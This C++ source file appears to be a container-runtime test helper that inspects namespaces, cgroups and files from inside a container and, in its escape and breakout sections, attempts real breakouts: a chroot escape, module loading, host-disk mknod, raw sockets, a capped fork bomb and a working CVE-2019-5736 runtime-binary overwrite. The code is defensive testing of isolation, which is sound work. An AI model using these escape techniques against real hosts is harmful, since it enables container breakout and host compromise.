// probe: a small static multi-tool that the tests run inside every container.
//
// Each subcommand looks at one thing from the inside (its PID, its hostname, its namespaces, its
// cgroup, what it can reach on the file system) and prints it in a form a test can parse: one
// value, or one record per line with fields separated by a space.
//
//   probe SUBCOMMAND [ARG...]        (probe help lists them)
//
// Exit status: 0 when the subcommand did its job, 1 when it failed (with "probe: ..." on stderr),
// 2 for a usage error. `exists`, `ipc-exists`, `escape` and `touch` answer with 0 (yes) or 1 (no);
// `breakout` with 0 when the attempt was refused and 1 when it got through.

#include <arpa/inet.h>
#include <dirent.h>
#include <fcntl.h>
#include <linux/if_ether.h>
#include <linux/reboot.h>
#include <net/if.h>
#include <signal.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/msg.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <sched.h>
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <cerrno>
#include <climits>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <functional>
#include <iostream>
#include <map>
#include <optional>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

namespace {

constexpr int kOk = 0;
constexpr int kFailed = 1;
constexpr int kUsage = 2;

using Args = std::vector<std::string>;

int fail(const std::string& what) {
  std::cerr << "probe: " << what << ": " << std::strerror(errno) << '\n';
  return kFailed;
}

int usage(const std::string& message) {
  std::cerr << "probe: " << message << " (probe help lists the subcommands)\n";
  return kUsage;
}

// "EROFS": the name a test can match.
std::string errno_name(int error) {
  const char* name = strerrorname_np(error);
  return name ? name : "E?";
}

// "EROFS (Read-only file system)": the name plus the message a reader understands.
std::string errno_text(int error) { return errno_name(error) + " (" + std::strerror(error) + ")"; }

std::optional<std::string> read_file(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  if (!in) return std::nullopt;
  std::ostringstream text;
  text << in.rdbuf();
  return text.str();
}

std::string trim(std::string text) {
  while (!text.empty() && (text.back() == '\n' || text.back() == ' ')) text.pop_back();
  return text;
}

std::optional<long long> parse_number(const std::string& text) {
  if (text.empty()) return std::nullopt;
  char* end = nullptr;
  errno = 0;
  long long value = std::strtoll(text.c_str(), &end, 10);
  if (errno != 0 || *end != '\0') return std::nullopt;
  return value;
}

// "64M" -> 67108864. Bytes or a K/M/G suffix, powers of 1024.
std::optional<size_t> parse_size(const std::string& text) {
  if (text.empty()) return std::nullopt;
  size_t multiplier = 1;
  std::string digits = text;
  switch (text.back()) {
    case 'K': case 'k': multiplier = size_t{1} << 10; break;
    case 'M': case 'm': multiplier = size_t{1} << 20; break;
    case 'G': case 'g': multiplier = size_t{1} << 30; break;
    default: break;
  }
  if (multiplier != 1) digits.pop_back();
  auto number = parse_number(digits);
  if (!number || *number <= 0) return std::nullopt;
  auto value = static_cast<size_t>(*number);
  if (value > SIZE_MAX / multiplier) return std::nullopt;
  return value * multiplier;
}

std::vector<std::string> directory_entries(const std::string& path, int& error) {
  std::vector<std::string> names;
  DIR* dir = opendir(path.c_str());
  if (dir == nullptr) {
    error = errno;
    return names;
  }
  while (dirent* entry = readdir(dir)) {
    std::string name = entry->d_name;
    if (name != "." && name != "..") names.push_back(name);
  }
  closedir(dir);
  std::sort(names.begin(), names.end());
  error = 0;
  return names;
}

int print_file(const std::string& path) {
  auto text = read_file(path);
  if (!text) return fail("open " + path);
  std::cout << *text;
  return kOk;
}

// --- identity -------------------------------------------------------------------------------

int cmd_pid(const Args&) {
  std::cout << getpid() << '\n';
  return kOk;
}

int cmd_ppid(const Args&) {
  std::cout << getppid() << '\n';
  return kOk;
}

int cmd_hostname(const Args&) {
  char name[HOST_NAME_MAX + 1] = {};
  if (gethostname(name, sizeof name) == -1) return fail("gethostname");
  std::cout << name << '\n';
  return kOk;
}

// One line "NAME INODE" per namespace, from the links /proc/self/ns/NAME -> "NAME:[INODE]".
int cmd_ns(const Args&) {
  int error = 0;
  auto names = directory_entries("/proc/self/ns", error);
  if (error != 0) {
    errno = error;
    return fail("opendir /proc/self/ns");
  }
  for (const auto& name : names) {
    std::string link = "/proc/self/ns/" + name;
    struct stat info {};
    if (stat(link.c_str(), &info) == -1) return fail("stat " + link);
    std::cout << name << ' ' << info.st_ino << '\n';
  }
  return kOk;
}

// --- network ----------------------------------------------------------------------------------

// One line "NAME up|down" per interface of the network namespace this process is in.
// if_nameindex() asks the kernel over netlink, so it sees the current namespace even when
// /sys is the host's.
int cmd_netdevs(const Args&) {
  struct if_nameindex* interfaces = if_nameindex();
  if (interfaces == nullptr) return fail("if_nameindex");
  int sock = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  if (sock == -1) {
    if_freenameindex(interfaces);
    return fail("socket(AF_INET, SOCK_DGRAM)");
  }
  int status = kOk;
  for (struct if_nameindex* i = interfaces; i->if_index != 0; ++i) {
    ifreq request {};
    std::snprintf(request.ifr_name, IFNAMSIZ, "%s", i->if_name);
    if (ioctl(sock, SIOCGIFFLAGS, &request) == -1) {
      status = fail(std::string("ioctl SIOCGIFFLAGS ") + i->if_name);
      break;
    }
    std::cout << i->if_name << ' ' << ((request.ifr_flags & IFF_UP) ? "up" : "down") << '\n';
  }
  close(sock);
  if_freenameindex(interfaces);
  return status;
}

// --- SysV IPC ---------------------------------------------------------------------------------

std::optional<key_t> parse_key(const std::string& text) {
  auto number = parse_number(text);
  if (!number || *number <= 0 || *number > INT_MAX) return std::nullopt;
  return static_cast<key_t>(*number);
}

int cmd_ipc_create(const Args& args) {
  auto key = parse_key(args[0]);
  if (!key) return usage("ipc-create: KEY must be a positive number");
  int id = msgget(*key, IPC_CREAT | 0600);
  if (id == -1) return fail("msgget(" + args[0] + ", IPC_CREAT)");
  std::cout << "created queue " << id << " with key " << *key << '\n';
  return kOk;
}

int cmd_ipc_exists(const Args& args) {
  auto key = parse_key(args[0]);
  if (!key) return usage("ipc-exists: KEY must be a positive number");
  if (msgget(*key, 0) == -1) {
    if (errno != ENOENT) return fail("msgget(" + args[0] + ")");
    std::cout << "no queue with key " << *key << '\n';
    return kFailed;
  }
  std::cout << "queue with key " << *key << " exists\n";
  return kOk;
}

// --- processes --------------------------------------------------------------------------------

// The PIDs this process can see: the numeric entries of /proc, one per line.
int cmd_ps(const Args&) {
  int error = 0;
  auto names = directory_entries("/proc", error);
  if (error != 0) {
    errno = error;
    return fail("opendir /proc");
  }
  std::vector<long long> pids;
  for (const auto& name : names) {
    if (auto pid = parse_number(name)) pids.push_back(*pid);
  }
  std::sort(pids.begin(), pids.end());
  for (auto pid : pids) std::cout << pid << '\n';
  return kOk;
}

// Allocate SIZE and write to every page, so the memory is really charged to the cgroup.
int cmd_alloc(const Args& args) {
  auto size = parse_size(args[0]);
  if (!size) return usage("alloc: SIZE must be bytes or a number with K, M or G");
  auto* memory = static_cast<volatile char*>(std::malloc(*size));
  if (memory == nullptr) return fail("malloc " + args[0]);
  const auto page = static_cast<size_t>(sysconf(_SC_PAGESIZE));
  for (size_t offset = 0; offset < *size; offset += page) memory[offset] = 1;
  std::cout << "allocated " << *size << '\n';
  std::free(const_cast<char*>(memory));
  return kOk;
}

struct ForkBomb {
  size_t forked = 0;
  int error = 0;  // fork's errno when it failed, 0 when the cap was reached first
};

// Fork sleeping children until fork fails (a pids limit should stop it early), then clean up.
ForkBomb fork_until_failure() {
  constexpr size_t kHardCap = 10000;  // never a real bomb, even without any limit
  std::vector<pid_t> children;
  ForkBomb result;
  while (children.size() < kHardCap) {
    pid_t child = fork();
    if (child == -1) {
      result.error = errno;
      break;
    }
    if (child == 0) {
      prctl(PR_SET_PDEATHSIG, SIGKILL);
      for (;;) pause();
    }
    children.push_back(child);
  }
  result.forked = children.size();
  for (pid_t child : children) kill(child, SIGKILL);
  for (pid_t child : children) {
    while (waitpid(child, nullptr, 0) == -1 && errno == EINTR) {
    }
  }
  return result;
}

int cmd_forkbomb(const Args&) {
  ForkBomb bomb = fork_until_failure();
  if (bomb.error != 0) {
    std::cout << "forked " << bomb.forked << " before fork failed: " << std::strerror(bomb.error) << '\n';
  } else {
    std::cout << "forked " << bomb.forked << " and stopped at the cap, fork never failed\n";
  }
  return kOk;
}

// --- files ------------------------------------------------------------------------------------

int cmd_cat(const Args& args) { return print_file(args[0]); }

int cmd_ls(const Args& args) {
  int error = 0;
  auto names = directory_entries(args[0], error);
  if (error != 0) {
    errno = error;
    return fail("opendir " + args[0]);
  }
  for (const auto& name : names) std::cout << name << '\n';
  return kOk;
}

int cmd_write(const Args& args) {
  int fd = open(args[0].c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
  if (fd == -1) return fail("open " + args[0]);
  const std::string& text = args[1];
  ssize_t written = write(fd, text.data(), text.size());
  if (written != static_cast<ssize_t>(text.size())) {
    int error = errno;
    close(fd);
    errno = error;
    return fail("write " + args[0]);
  }
  if (close(fd) == -1) return fail("close " + args[0]);
  std::cout << "wrote " << text.size() << " bytes to " << args[0] << '\n';
  return kOk;
}

int cmd_rm(const Args& args) {
  if (unlink(args[0].c_str()) == -1) return fail("unlink " + args[0]);
  std::cout << "removed " << args[0] << '\n';
  return kOk;
}

int cmd_exists(const Args& args) {
  struct stat info {};
  if (lstat(args[0].c_str(), &info) == -1) {
    std::cout << args[0] << " does not exist: " << errno_text(errno) << '\n';
    return kFailed;
  }
  std::cout << args[0] << " exists\n";
  return kOk;
}

// Create PATH (or open it for writing if it is there) and say how that went.
int cmd_touch(const Args& args) {
  int fd = open(args[0].c_str(), O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
  if (fd == -1) {
    std::cout << "touch " << args[0] << ": " << errno_text(errno) << '\n';
    return kFailed;
  }
  close(fd);
  std::cout << "touched " << args[0] << '\n';
  return kOk;
}

int cmd_mounts(const Args&) { return print_file("/proc/self/mountinfo"); }

int cmd_cgroup(const Args&) { return print_file("/proc/self/cgroup"); }

// --- cgroup cpu quota -----------------------------------------------------------------------

// What a program inside the container reads as its CPU limit: "QUOTA PERIOD" or "max".
// Cgroup v2: cpu.max of the "0::PATH" cgroup. Cgroup v1: cpu.cfs_quota_us and cpu.cfs_period_us
// of the cgroup named on the line whose controller list holds "cpu".
std::vector<std::string> split(const std::string& text, char separator) {
  std::vector<std::string> parts;
  std::string part;
  std::istringstream in(text);
  while (std::getline(in, part, separator)) parts.push_back(part);
  return parts;
}

std::optional<std::string> v1_cpu_dir(const std::string& controllers, const std::string& path) {
  for (const std::string& mount : {controllers, std::string("cpu")}) {
    std::string dir = "/sys/fs/cgroup/" + mount + path;
    if (access((dir + "/cpu.cfs_quota_us").c_str(), R_OK) == 0) return dir;
  }
  return std::nullopt;
}

int print_v1_quota(const std::string& dir) {
  auto quota = read_file(dir + "/cpu.cfs_quota_us");
  auto period = read_file(dir + "/cpu.cfs_period_us");
  if (!quota || !period) return fail("read " + dir + "/cpu.cfs_{quota,period}_us");
  if (trim(*quota) == "-1") {
    std::cout << "max\n";
  } else {
    std::cout << trim(*quota) << ' ' << trim(*period) << '\n';
  }
  return kOk;
}

int print_v2_quota(const std::string& file) {
  auto max = read_file(file);
  if (!max) return fail("read " + file);
  auto fields = split(trim(*max), ' ');
  if (!fields.empty() && fields[0] == "max") {
    std::cout << "max\n";
  } else {
    std::cout << trim(*max) << '\n';
  }
  return kOk;
}

int cmd_cpu_quota(const Args&) {
  auto membership = read_file("/proc/self/cgroup");
  if (!membership) return fail("open /proc/self/cgroup");
  std::optional<std::string> v2_path;
  for (const auto& line : split(*membership, '\n')) {
    // "HIERARCHY-ID:CONTROLLERS:PATH"; the path itself may hold ':'.
    auto first = line.find(':');
    auto second = line.find(':', first + 1);
    if (first == std::string::npos || second == std::string::npos) continue;
    std::string controllers = line.substr(first + 1, second - first - 1);
    std::string path = line.substr(second + 1);
    if (controllers.empty()) {
      v2_path = path;
      continue;
    }
    auto names = split(controllers, ',');
    if (std::find(names.begin(), names.end(), "cpu") == names.end()) continue;
    if (auto dir = v1_cpu_dir(controllers, path)) return print_v1_quota(*dir);
  }
  if (v2_path) {
    std::string file = "/sys/fs/cgroup" + *v2_path + "/cpu.max";
    if (access(file.c_str(), R_OK) == 0) return print_v2_quota(file);
  }
  errno = ENOENT;
  return fail("no cpu.max (v2) or cpu.cfs_quota_us (v1) for this process under /sys/fs/cgroup");
}

// --- the chroot escape ------------------------------------------------------------------------

// The classic escape: chroot() moves the root but not the current directory. After chroot into a
// subdirectory, the working directory lies outside the new root, so ".." is never stopped by it
// and climbs to the real root of the mount namespace; chroot(".") there undoes the jail.
// After pivot_root with the old root detached, that real root IS the container's root, so the
// climb ends inside the container.
int cmd_escape(const Args& args) {
  const std::string& marker = args[0];
  int old_root = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (old_root == -1) return fail("open /");
  char jail_template[] = "/tmp/probe-escape-XXXXXX";
  std::string jail;
  if (mkdtemp(jail_template) != nullptr) {
    jail = jail_template;
  } else {
    jail = "/probe-escape-" + std::to_string(getpid());
    if (mkdir(jail.c_str(), 0700) == -1) return fail("mkdir " + jail);
  }
  if (chroot(jail.c_str()) == -1) {
    int status = fail("chroot " + jail);
    rmdir(jail.c_str());
    return status;
  }
  for (int i = 0; i < 256; ++i) {
    if (chdir("..") == -1) return fail("chdir ..");
  }
  if (chroot(".") == -1) return fail("chroot .");
  bool visible = access(marker.c_str(), F_OK) == 0;
  int marker_error = errno;

  // Back into the container's root (the open directory still points there), and tidy up.
  if (fchdir(old_root) == -1) return fail("fchdir to the original root");
  if (chroot(".") == -1) return fail("chroot back to the original root");
  close(old_root);
  if (rmdir(jail.c_str()) == -1) return fail("rmdir " + jail);

  if (visible) {
    std::cout << "escaped: " << marker << " is visible\n";
    return kOk;
  }
  std::cout << "escape failed: " << marker << " is not visible: " << errno_text(marker_error) << '\n';
  return kFailed;
}

// --- escape attempts ----------------------------------------------------------------------------

// Each attempt is one thing root inside a container might try in order to reach or change the
// host. It prints one line, "escape NAME: refused (ERRNO)" or "escape NAME: DONE ...", and answers
// 0 when refused, 1 when it got through. An attempt that gets through undoes what it can.

// `result` is the system call's return value; -1 means refused, with errno saying why.
int report_attempt(const std::string& name, long result, const std::string& done = "") {
  if (result == -1) {
    std::cout << "escape " << name << ": refused (" << errno_name(errno) << ")\n";
    return kOk;
  }
  std::cout << "escape " << name << ": DONE" << (done.empty() ? "" : " (" + done + ")") << '\n';
  return kFailed;
}

std::string directory_or_root(const std::string& path) {
  struct stat info {};
  return stat(path.c_str(), &info) == 0 && S_ISDIR(info.st_mode) ? path : "/";
}

int try_mount(const Args&) {
  std::string target = directory_or_root("/tmp");
  long result = mount("probe", target.c_str(), "tmpfs", 0, nullptr);
  if (result == 0) umount2(target.c_str(), MNT_DETACH);
  return report_attempt("mount", result, "tmpfs on " + target);
}

int try_umount(const Args&) {
  return report_attempt("umount", umount2("/proc", MNT_DETACH), "/proc detached");
}

// pivot_root(".", ".") stacks the old root on the new one: the shortest form of a second pivot.
int try_pivot_root(const Args&) {
  if (chdir("/") == -1) return fail("chdir /");
  long result = syscall(SYS_pivot_root, ".", ".");
  if (result == 0) umount2(".", MNT_DETACH);
  return report_attempt("pivot_root", result);
}

// Turning Ctrl-Alt-Del off is the one reboot command that would harm nothing if it went through.
int try_reboot(const Args&) {
  return report_attempt("reboot", syscall(SYS_reboot, LINUX_REBOOT_MAGIC1, LINUX_REBOOT_MAGIC2,
                                          LINUX_REBOOT_CMD_CAD_OFF, nullptr));
}

// A module image of zeros: the kernel would refuse it as no ELF file, but only after the
// permission checks that an escape would have to get past.
int try_init_module(const Args&) {
  std::vector<char> image(4096, 0);
  return report_attempt("init_module", syscall(SYS_init_module, image.data(), image.size(), ""));
}

int try_finit_module(const Args&) {
  int fd = open("/bin/probe", O_RDONLY | O_CLOEXEC);
  if (fd == -1) return fail("open /bin/probe");
  long result = syscall(SYS_finit_module, fd, "", 0);
  close(fd);
  return report_attempt("finit_module", result);
}

// Changing a kernel setting through /proc/sys or /sys. Opening the file for writing is as far as
// the attempt goes: if that works, the setting could be changed.
int try_write(const Args& args) {
  const std::string& path = args.at(1);
  int fd = open(path.c_str(), O_WRONLY | O_CLOEXEC);
  if (fd != -1) close(fd);
  return report_attempt("write " + path, fd, "opened for writing");
}

// /proc/1/root is the root of PID 1; from inside, that is the container's init, so the path
// leads back into the container, never to the host's MARKER.
int try_proc_root(const Args& args) {
  std::string path = "/proc/1/root" + args.at(1);
  struct stat info {};
  return report_attempt("proc-root", stat(path.c_str(), &info), path + " is visible");
}

// An open file descriptor of the runtime's, left open across exec, is a door to wherever it
// points. Only stdin, stdout and stderr may be there.
int try_fds(const Args&) {
  int error = 0;
  auto names = directory_entries("/proc/self/fd", error);
  if (error != 0) {
    errno = error;
    return fail("opendir /proc/self/fd");
  }
  std::string leaked;
  for (const auto& name : names) {
    if (name == "0" || name == "1" || name == "2") continue;
    char target[PATH_MAX] = {};
    std::string link = "/proc/self/fd/" + name;
    if (readlink(link.c_str(), target, sizeof target - 1) == -1) continue;  // the listing's own fd, closed by now
    leaked += (leaked.empty() ? "" : ", ") + name + " -> " + target;
  }
  if (leaked.empty()) {
    std::cout << "escape fds: refused (only 0 1 2 open)\n";
    return kOk;
  }
  std::cout << "escape fds: DONE (" << leaked << ")\n";
  return kFailed;
}

int try_ptrace(const Args& args) {
  auto pid = parse_number(args.at(1));
  if (!pid || *pid <= 0 || *pid > INT_MAX) return usage("breakout ptrace: PID must be a positive number");
  long result = ptrace(PTRACE_ATTACH, static_cast<pid_t>(*pid), nullptr, nullptr);
  if (result == 0) ptrace(PTRACE_DETACH, static_cast<pid_t>(*pid), nullptr, nullptr);
  return report_attempt("ptrace " + args.at(1), result, "attached");
}

// The host's first disk is block device 8:0. Making the node is one step, opening it another:
// both must be refused.
int try_mknod(const Args&) {
  const std::string path = directory_or_root("/dev") + "/probe-disk";
  long result = mknod(path.c_str(), S_IFBLK | 0600, makedev(8, 0));
  if (result == 0) {
    int fd = open(path.c_str(), O_RDONLY | O_CLOEXEC);
    result = fd;
    int open_error = errno;
    if (fd != -1) close(fd);
    unlink(path.c_str());
    errno = open_error;
  }
  return report_attempt("mknod", result, path + " made and opened");
}

// A packet socket sees (and can forge) every frame of an interface.
int try_raw_socket(const Args&) {
  int fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(ETH_P_ALL));
  if (fd != -1) close(fd);
  return report_attempt("raw-socket", fd);
}

int try_sethostname(const Args&) {
  const std::string name = "escaped";
  return report_attempt("sethostname", sethostname(name.data(), name.size()));
}

// Root of a new user namespace holds every capability there: the way back to mount and the rest.
int try_unshare_userns(const Args&) { return report_attempt("unshare-userns", unshare(CLONE_NEWUSER)); }

// The same through clone(), as a raw system call so that its flags reach the kernel as given.
int try_clone_userns(const Args&) {
  long child = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, nullptr, nullptr, nullptr, nullptr);
  if (child == 0) _exit(0);
  if (child > 0) waitpid(static_cast<pid_t>(child), nullptr, 0);
  return report_attempt("clone-userns", child == -1 ? -1 : 0);
}

int try_chroot(const Args&) {
  return report_attempt("chroot", chroot(directory_or_root("/tmp").c_str()));
}

int try_forkbomb(const Args&) {
  ForkBomb bomb = fork_until_failure();
  std::cout << "escape forkbomb: ";
  if (bomb.error == 0) {
    std::cout << "DONE (" << bomb.forked << " processes, fork never failed)\n";
    return kFailed;
  }
  std::cout << "refused (" << errno_name(bomb.error) << ") after " << bomb.forked << " processes\n";
  return kOk;
}

// --- overwriting the runtime's binary (the class of CVE-2019-5736) ----------------------------

// A process a runtime puts into the container runs the runtime's binary until it execs the
// container's program; while it does, its /proc/PID/exe names that binary on the host. Opened with
// O_PATH, the link gives a descriptor that outlives the process, and reopening the descriptor
// through /proc/self/fd/N for writing (once nobody executes the file, ETXTBSY until then) writes
// the host's file. The target is a process whose argv[0], or its last component, is MATCH.

using Clock = std::chrono::steady_clock;

std::string argv0_of(const std::string& pid) {
  auto cmdline = read_file("/proc/" + pid + "/cmdline");
  return cmdline ? std::string(cmdline->c_str()) : "";
}

bool matches(const std::string& argv0, const std::string& match) {
  return argv0 == match || (argv0.size() > match.size() && argv0.ends_with("/" + match));
}

// Watches /proc without sleeping (the window may be microseconds wide) for SECONDS. A target's exe
// may be refused for a while (a process with more capabilities than ours is not ours to look at) and
// then not, so every refusal is tried again until the end. Returns the O_PATH descriptor, or -1 with
// `refused` set to the last errno (0 when no target came).
int hold_exe_of_target(const std::string& match, int seconds, std::string& target, int& refused) {
  auto deadline = Clock::now() + std::chrono::seconds(seconds);
  std::string self = std::to_string(getpid());
  refused = 0;
  while (Clock::now() < deadline) {
    int error = 0;
    for (const auto& pid : directory_entries("/proc", error)) {
      if (pid.find_first_not_of("0123456789") != std::string::npos || pid == self) continue;
      if (!matches(argv0_of(pid), match)) continue;
      int fd = open(("/proc/" + pid + "/exe").c_str(), O_PATH | O_CLOEXEC);
      if (fd == -1) {
        if (errno != ENOENT && errno != ESRCH) refused = errno;  // not when it is gone by now
        continue;
      }
      // The exe and the command line change together at exec: still the target, so was the exe.
      if (matches(argv0_of(pid), match)) {
        target = pid;
        return fd;
      }
      close(fd);
    }
  }
  return -1;
}

// What a container would write over the runtime: a script, harmless here, that would run as root
// the next time someone on the host runs the runtime.
const std::string kPayload = "#!/bin/sh\necho container code ran on the host\nexit 0\n";

int write_through(int held, const std::string& target, int seconds) {
  std::string path = "/proc/self/fd/" + std::to_string(held);
  auto deadline = Clock::now() + std::chrono::seconds(seconds);
  int fd = -1;
  while ((fd = open(path.c_str(), O_WRONLY | O_CLOEXEC)) == -1 && errno == ETXTBSY && Clock::now() < deadline) {
    std::this_thread::sleep_for(std::chrono::milliseconds(10));
  }
  if (fd == -1) return report_attempt("exe-overwrite", -1);
  long written = pwrite(fd, kPayload.data(), kPayload.size(), 0);
  int error = errno;
  close(fd);
  errno = error;
  return report_attempt("exe-overwrite", written == -1 ? -1 : 0, "wrote over the binary of PID " + target);
}

int try_exe_overwrite(const Args& args) {
  auto seconds = parse_number(args.at(2));
  if (!seconds || *seconds <= 0 || *seconds > 600) return usage("breakout exe-overwrite: SECONDS must be 1..600");
  std::string target;
  int refused = 0;
  int held = hold_exe_of_target(args.at(1), static_cast<int>(*seconds), target, refused);
  if (held == -1 && refused == 0) {
    std::cout << "escape exe-overwrite: no process with argv[0] " << args.at(1) << " seen" << std::endl;
    return kFailed;
  }
  errno = refused;
  if (held == -1) return report_attempt("exe-overwrite", -1);
  std::cout << "holding the exe of PID " << target << std::endl;  // the test may now let it go on
  int status = write_through(held, target, 20);
  close(held);
  return status;
}

struct Attempt {
  size_t arg_count;
  std::function<int(const Args&)> run;
};

const std::map<std::string, Attempt>& attempts() {
  static const std::map<std::string, Attempt> table{
      {"mount", {0, try_mount}},
      {"umount", {0, try_umount}},
      {"pivot_root", {0, try_pivot_root}},
      {"reboot", {0, try_reboot}},
      {"init_module", {0, try_init_module}},
      {"finit_module", {0, try_finit_module}},
      {"write", {1, try_write}},
      {"proc-root", {1, try_proc_root}},
      {"fds", {0, try_fds}},
      {"ptrace", {1, try_ptrace}},
      {"mknod", {0, try_mknod}},
      {"raw-socket", {0, try_raw_socket}},
      {"sethostname", {0, try_sethostname}},
      {"unshare-userns", {0, try_unshare_userns}},
      {"clone-userns", {0, try_clone_userns}},
      {"chroot", {0, try_chroot}},
      {"forkbomb", {0, try_forkbomb}},
      {"exe-overwrite", {2, try_exe_overwrite}},
  };
  return table;
}

int cmd_breakout(const Args& args) {
  if (args.empty()) return usage("breakout: which attempt?");
  auto found = attempts().find(args[0]);
  if (found == attempts().end()) return usage("breakout: unknown attempt " + args[0]);
  if (args.size() != found->second.arg_count + 1) {
    return usage("breakout " + args[0] + " takes " + std::to_string(found->second.arg_count) + " argument(s)");
  }
  return found->second.run(args);
}

// --- timing and exit --------------------------------------------------------------------------

int cmd_sleep(const Args& args) {
  auto seconds = parse_number(args[0]);
  if (!seconds || *seconds < 0) return usage("sleep: SECS must be a number >= 0");
  timespec remaining{static_cast<time_t>(*seconds), 0};
  while (nanosleep(&remaining, &remaining) == -1 && errno == EINTR) {
  }
  return kOk;
}

// Say "waiting" and block until stdin reaches end of file: lets a test hold a container open
// and end it by closing a pipe, with no sleeping on either side.
int cmd_wait_stdin(const Args&) {
  std::cout << "waiting" << std::endl;
  char buffer[256];
  for (;;) {
    ssize_t n = read(STDIN_FILENO, buffer, sizeof buffer);
    if (n == 0) break;
    if (n == -1 && errno != EINTR) return fail("read stdin");
  }
  std::cout << "stdin closed" << std::endl;
  return kOk;
}

int cmd_exit(const Args& args) {
  auto status = parse_number(args[0]);
  if (!status || *status < 0 || *status > 255) return usage("exit: N must be 0..255");
  return static_cast<int>(*status);
}

// --- dispatch ---------------------------------------------------------------------------------

constexpr size_t kArgsChecked = SIZE_MAX;  // the subcommand checks its arguments itself

struct Subcommand {
  size_t arg_count;
  const char* synopsis;
  std::function<int(const Args&)> run;
};

const std::map<std::string, Subcommand>& subcommands() {
  static const std::map<std::string, Subcommand> table{
      {"pid", {0, "pid                 this process's PID", cmd_pid}},
      {"ppid", {0, "ppid                its parent's PID", cmd_ppid}},
      {"hostname", {0, "hostname            the hostname", cmd_hostname}},
      {"ns", {0, "ns                  NAME INODE per /proc/self/ns entry", cmd_ns}},
      {"netdevs", {0, "netdevs             NAME up|down per network interface", cmd_netdevs}},
      {"ipc-create", {1, "ipc-create KEY      create a SysV message queue", cmd_ipc_create}},
      {"ipc-exists", {1, "ipc-exists KEY      exit 0 if a queue with KEY exists, 1 if not", cmd_ipc_exists}},
      {"ps", {0, "ps                  the PIDs listed in /proc", cmd_ps}},
      {"alloc", {1, "alloc SIZE          allocate and touch SIZE (K/M/G) bytes", cmd_alloc}},
      {"forkbomb", {0, "forkbomb            fork until fork fails, then clean up", cmd_forkbomb}},
      {"cat", {1, "cat PATH            print a file", cmd_cat}},
      {"ls", {1, "ls PATH             list a directory", cmd_ls}},
      {"write", {2, "write PATH TEXT     write TEXT to PATH", cmd_write}},
      {"rm", {1, "rm PATH             remove a file", cmd_rm}},
      {"exists", {1, "exists PATH         exit 0 if PATH exists, 1 if not", cmd_exists}},
      {"touch", {1, "touch PATH          create PATH, report errno on failure", cmd_touch}},
      {"mounts", {0, "mounts              print /proc/self/mountinfo", cmd_mounts}},
      {"cgroup", {0, "cgroup              print /proc/self/cgroup", cmd_cgroup}},
      {"cpu-quota", {0, "cpu-quota           QUOTA PERIOD, or max", cmd_cpu_quota}},
      {"escape", {1, "escape MARKER       try the chroot escape, exit 0 if MARKER is then visible", cmd_escape}},
      {"breakout", {kArgsChecked,
                    "breakout ATTEMPT [ARG]  try to reach or change the host: mount, umount, pivot_root,\n"
                    "                      reboot, init_module, finit_module, write PATH, proc-root MARKER,\n"
                    "                      fds, ptrace PID, mknod, raw-socket, sethostname, unshare-userns,\n"
                    "                      clone-userns, chroot, forkbomb, exe-overwrite MATCH SECONDS",
                    cmd_breakout}},
      {"sleep", {1, "sleep SECS          sleep", cmd_sleep}},
      {"wait-stdin", {0, "wait-stdin          print waiting, block until stdin is closed", cmd_wait_stdin}},
      {"exit", {1, "exit N              exit with status N", cmd_exit}},
  };
  return table;
}

int cmd_help() {
  std::cout << "usage: probe SUBCOMMAND [ARG...]\n";
  for (const auto& [name, subcommand] : subcommands()) std::cout << "  " << subcommand.synopsis << '\n';
  return kOk;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 2) return usage("missing SUBCOMMAND");
  std::string name = argv[1];
  if (name == "help" || name == "--help" || name == "-h") return cmd_help();
  auto found = subcommands().find(name);
  if (found == subcommands().end()) return usage("unknown subcommand " + name);
  Args args(argv + 2, argv + argc);
  if (found->second.arg_count != kArgsChecked && args.size() != found->second.arg_count) {
    return usage(name + " takes " + std::to_string(found->second.arg_count) + " argument(s)");
  }
  std::cout << std::flush;
  int status = found->second.run(args);
  std::cout.flush();
  return status;
}
